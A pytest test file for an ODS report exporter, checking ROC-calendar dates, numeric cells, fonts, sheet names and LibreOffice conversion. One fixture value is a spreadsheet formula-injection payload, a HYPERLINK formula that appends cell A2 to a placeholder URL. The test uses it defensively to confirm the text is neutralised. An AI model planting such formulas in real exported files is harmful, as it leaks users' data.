"""``--format ods``: a report as an OpenDocument spreadsheet (ISSUE 11 item 10), read
back with odfpy and converted by LibreOffice: every column under its header, numbers
as numbers, real dates shown 115/11/27 (ROC), text neutralised and never a formula,
the sheet named like the XLSX's, and 標楷體 the cells' font."""

from __future__ import annotations

import re
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from odf import opendocument, table, teletype

from docgen.cli.main import cli
from docgen.errors import UsageError
from docgen.report import FORMATS, Columns, Report, sheet_title, write_report
from tests.odf.odf_support import HTML, NS, ODS, convert, needs_calc, part, q

COLUMNS = Columns(
    {"when": "Date", "stamp": "Queried at", "count": "Rows read", "note": "Remark", "ok": "OK"},
    dates=("when", "stamp"),
)
ROWS: list[dict[str, Any]] = [
    {"when": date(2026, 11, 27), "stamp": datetime(2026, 11, 27, 9, 30, 5), "count": 3,
     "note": '=HYPERLINK("http://x/?"&A2,"看")', "ok": True},
    {"when": "115/10/01", "stamp": "115/10/01 08:00:00", "count": -5, "note": "－1＋1",
     "ok": False},
    {"when": "—", "stamp": None, "count": 2.5, "note": "兩行\n第二行  兩個空格", "ok": None},
]  # fmt: skip


def _report() -> Report:
    return Report("Query log: 2026-10 (企劃室)", COLUMNS, ROWS, summary={"Rows read": 3})


def _cells(path: Path) -> list[list[table.TableCell]]:
    book = opendocument.load(str(path))
    (sheet,) = book.spreadsheet.getElementsByType(table.Table)
    return [
        row.getElementsByType(table.TableCell) for row in sheet.getElementsByType(table.TableRow)
    ]


def _attr(cell: table.TableCell, name: str) -> str | None:
    """Attribute ``name`` (``office:value-type``) of an odfpy element, or None."""
    prefix, local = name.split(":")
    value = cell.getAttrNS(NS[prefix], local)
    return str(value) if value is not None else None


def _html_cells(page: str) -> list[tuple[str, str]]:
    """Each cell of LibreOffice's HTML export as (its value ``sdval``, the text shown)."""
    cells = []
    for attributes, text in re.findall(r"<td([^>]*)>(?:<[^>]+>)*([^<]*)", page):
        value = re.search(r'sdval="([^"]+)"', attributes)
        cells.append((value.group(1) if value else "", text))
    return cells


@pytest.fixture
def ods(tmp_path: Path) -> Path:
    target = tmp_path / "report.ods"
    assert write_report(_report(), "ods", target) is None
    return target


def test_ods_is_a_format_and_needs_an_output_file() -> None:
    assert "ods" in FORMATS
    with pytest.raises(UsageError, match="--format ods needs an output file"):
        write_report(_report(), "ods")


def test_every_column_under_its_header_with_numbers_and_real_dates(ods: Path) -> None:
    rows = _cells(ods)
    assert [teletype.extractText(c) for c in rows[0]] == list(COLUMNS.values())
    first, second, third = rows[1:]
    assert _attr(first[0], "office:value-type") == "date"
    assert _attr(first[0], "office:date-value") == "2026-11-27"
    assert teletype.extractText(first[0]) == "115/11/27"
    assert _attr(first[1], "office:date-value") == "2026-11-27T09:30:05"
    assert teletype.extractText(first[1]) == "115/11/27 09:30:05"
    # ROC text in a date column is a real date too
    assert _attr(second[0], "office:date-value") == "2026-10-01"
    assert _attr(second[1], "office:date-value") == "2026-10-01T08:00:00"
    assert (_attr(first[2], "office:value-type"), _attr(first[2], "office:value")) == ("float", "3")
    assert _attr(second[2], "office:value") == "-5"
    assert _attr(third[2], "office:value") == "2.5"
    # text that is not a date stays text; an empty cell is empty
    assert _attr(third[0], "office:value-type") == "string"
    assert teletype.extractText(third[0]) == "—"
    assert _attr(third[1], "office:value-type") is None
    assert [teletype.extractText(c) for c in (first[4], second[4])] == ["yes", "no"]


def test_text_is_neutralised_and_the_sheet_has_no_formula(ods: Path) -> None:
    rows = _cells(ods)
    assert teletype.extractText(rows[1][3]) == "'" + ROWS[0]["note"]
    assert teletype.extractText(rows[2][3]) == "'－1＋1"
    assert teletype.extractText(rows[3][3]) == "兩行\n第二行  兩個空格"
    content = part(ods, "content.xml")
    assert not [e for e in content.iter() if q("table:formula") in e.attrib]
    assert {c.get(q("office:value-type")) for c in content.iter(q("table:table-cell"))} <= {
        None, "string", "float", "date"
    }  # fmt: skip


def test_sheet_named_like_the_workbook_and_cells_in_kai(ods: Path) -> None:
    (sheet,) = part(ods, "content.xml").iter(q("table:table"))
    assert sheet.get(q("table:name")) == sheet_title(_report()) == "Query log- 2026-10 (企劃室)"
    styles = part(ods, "styles.xml")
    faces = [f.get(q("style:name")) for f in styles.iter(q("style:font-face"))]
    assert "標楷體" in faces
    (default,) = [s for s in styles.iter(q("style:default-style"))
                  if s.get(q("style:family")) == "table-cell"]  # fmt: skip
    props = default.find(q("style:text-properties"))
    assert props is not None
    assert {props.get(q(f"style:{n}")) for n in ("font-name", "font-name-asian")} == {"標楷體"}


def test_the_date_style_is_of_the_roc_calendar(ods: Path) -> None:
    styles = part(ods, "styles.xml")
    used = {
        s.get(q("style:data-style-name"))
        for s in part(ods, "content.xml").iter(q("style:style"))
        if s.get(q("style:data-style-name"))
    }
    roc = [
        d for d in styles.iter(q("number:date-style"))
        if d.get(q("style:name")) in used
        and d.find(q("number:year")) is not None
        and d.find(q("number:year")).get(q("number:calendar")) == "ROC"  # type: ignore[union-attr]
    ]  # fmt: skip
    assert len(roc) == 2  # the date and the date and time


@needs_calc
def test_libreoffice_shows_roc_dates_numbers_and_the_kai_font(ods: Path, tmp_path: Path) -> None:
    html, resaved = convert([ods], tmp_path / "html", HTML) + convert([ods], tmp_path / "re", ODS)
    page = html.read_text(encoding="utf-8", errors="replace")
    cells = _html_cells(page)
    shown = [text for _value, text in cells]
    assert "115/11/27" in shown and "115/11/27 09:30:05" in shown and "115/10/01" in shown
    values = {text: value for value, text in cells}
    assert values["115/11/27"] == "46353"  # a real date: the serial number of 2026-11-27
    assert values["-5"] == "-5" and values["2.5"] == "2.5"
    assert "'=HYPERLINK" in page.replace("&quot;", '"')
    # LibreOffice's own copy keeps the sheet's name, the 標楷體 cells and the ROC dates
    content = part(resaved, "content.xml")
    assert [t.get(q("table:name")) for t in content.iter(q("table:table"))] == [
        "Query log- 2026-10 (企劃室)"
    ]
    styles = part(resaved, "styles.xml")
    fonts = {p.get(q("style:font-name")) for p in styles.iter(q("style:text-properties"))}
    assert "標楷體" in fonts
    date_cell = next(c for c in content.iter(q("table:table-cell"))
                     if c.get(q("office:date-value")) == "2026-11-27")  # fmt: skip
    assert "".join(date_cell.itertext()) == "115/11/27"
    calendars = {y.get(q("number:calendar")) for y in content.iter(q("number:year"))}
    calendars |= {y.get(q("number:calendar")) for y in styles.iter(q("number:year"))}
    assert "ROC" in calendars


def test_a_report_command_writes_ods(tmp_path: Path) -> None:
    runner = CliRunner()
    ws = tmp_path / "ws"
    assert runner.invoke(cli, ["init", str(ws)]).exit_code == 0
    target = tmp_path / "fields.ods"
    result = runner.invoke(
        cli, ["-w", str(ws), "forms", "list", "--format", "ods", "-o", str(target)]
    )
    assert result.exit_code == 0, result.output
    rows = _cells(target)
    assert len(rows) > 10 and any("附件4" in teletype.extractText(c) for r in rows for c in r)
    result = runner.invoke(cli, ["-w", str(ws), "forms", "list", "--format", "ods"])
    assert isinstance(result.exception, UsageError)
    assert "--format ods needs an output file" in str(result.exception)
